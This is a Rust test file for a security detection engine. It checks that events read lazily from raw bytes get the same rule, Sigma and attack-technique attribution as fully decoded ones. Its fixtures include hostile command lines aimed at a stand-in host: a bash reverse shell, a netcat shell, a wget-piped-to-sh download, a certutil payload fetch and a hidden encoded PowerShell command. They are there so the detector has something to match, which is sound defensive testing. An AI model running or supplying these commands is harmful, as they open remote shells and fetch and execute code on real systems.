//! The engine reads a detection whose attributes stay in its received bytes (`Held`) as it reads
//! the decoded detection: the same rule and Sigma matches, the same attribution, full and
//! compact, for every real sample and for attributes that only some readers look at.

use attackmesh::formats::Format;
use attackmesh::held::Held;
use attackmesh::proto::{DetectionEvent, DetectorKind, Endpoint, Process};
use attackmesh_attack::Engine;
use attackmesh_testkit::data;
use prost::{Message, bytes::Bytes};

/// Events whose attributes carry what the rules, the command-line lookup and Sigma's routing
/// read, including the cases that read them differently: a process command line beside an
/// attribute one, many attributes, Windows routing fields in other cases, a cut value.
fn constructed() -> Vec<DetectionEvent> {
    let ev = attackmesh_testkit::event;
    let many: Vec<(String, String)> = (0..80).map(|i| (format!("k{i:03}"), format!("v{i}"))).collect();
    let mut many_event = ev(
        "process",
        DetectorKind::BehaviouralAnalysis,
        "shell",
        &[("cmdline", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")],
    );
    many_event.attributes.extend(many);
    let mut with_process = ev(
        "process",
        DetectorKind::BehaviouralAnalysis,
        "process started",
        &[("command_line", "whoami /all")],
    );
    with_process.source = Some(Endpoint {
        process: Some(Process {
            command_line: "certutil -urlcache -split -f http://203.0.113.9/a.exe a.exe".into(),
            ..Default::default()
        }),
        ..Default::default()
    });
    vec![
        ev(
            "process",
            DetectorKind::BehaviouralAnalysis,
            "process started",
            &[
                ("proc.cmdline", "nc -e /bin/sh 203.0.113.9 4444"),
                ("input", "wget http://203.0.113.9/x.sh | sh"),
                ("user", "root"),
            ],
        ),
        many_event,
        with_process,
        ev(
            "windows.sysmon",
            DetectorKind::BehaviouralAnalysis,
            "sysmon",
            &[
                ("CHANNEL", "Microsoft-Windows-Sysmon/Operational"),
                ("Channel", "Microsoft-Windows-Sysmon/Operational"),
                ("EventID", "1"),
                (
                    "Image",
                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                ),
                ("CommandLine", "powershell.exe -NoP -W Hidden -enc SQBFAFgA"),
                ("eventid", "4688"),
            ],
        ),
        ev(
            "windows.security",
            DetectorKind::BehaviouralAnalysis,
            "logon",
            &[
                ("Channel", "Security"),
                ("EventID", "4625"),
                (attackmesh::formats::ATTRIBUTES_DROPPED, "3"),
                ("LogonType", "3"),
            ],
        ),
        DetectionEvent::default(),
    ]
}

/// Windows records beyond the testkit's eight, so that many Sigma rules match.
fn windows_detections() -> Vec<DetectionEvent> {
    let Some(dir) = data::shared_data() else {
        return Vec::new();
    };
    let samples = dir.join("samples/evtx-attack-samples");
    ["Execution", "Lateral Movement", "Defense Evasion"]
        .iter()
        .flat_map(|d| data::evtx_files(&samples.join(d)).into_iter().take(6))
        .flat_map(|path| data::sample_events(Format::Evtx, &path))
        .map(|(_, ev)| ev)
        .collect()
}

#[test]
fn held_detections_are_attributed_as_decoded_ones() {
    let engine = Engine::embedded().expect("embedded engine");
    let mut events = data::real_detections();
    events.extend(windows_detections());
    events.extend(constructed());
    let (mut held_count, mut matched, mut sigma_matched) = (0, 0, 0);
    for ev in &events {
        let held = Held::<DetectionEvent>::decode(Bytes::from(ev.encode_to_vec())).expect("decodes");
        held_count += usize::from(held.is_held() && !ev.attributes.is_empty());
        let context = format!("{}: {}", ev.event_type, ev.description);
        let full = engine.attribute(ev);
        assert_eq!(engine.attribute(&held), full, "{context}");
        assert_eq!(
            engine.attribute_compact(&held),
            engine.attribute_compact(ev),
            "{context}"
        );
        matched += usize::from(!full.technique_ids.is_empty());
        let mut hits = (Vec::new(), Vec::new());
        engine
            .sigma()
            .for_each_match(ev, |hit, _| hits.0.push(hit.id.to_owned()));
        engine
            .sigma()
            .for_each_match(&held, |hit, _| hits.1.push(hit.id.to_owned()));
        assert_eq!(hits.0, hits.1, "{context}");
        sigma_matched += usize::from(!hits.0.is_empty());
    }
    // Every event with attributes was read from its bytes, and the comparison saw matches.
    let with_attributes = events.iter().filter(|e| !e.attributes.is_empty()).count();
    assert_eq!(held_count, with_attributes);
    assert!(matched > 5, "{matched} events matched a rule");
    if data::shared_data().is_some() {
        assert!(sigma_matched > 3, "{sigma_matched} events matched a Sigma rule");
    }
}
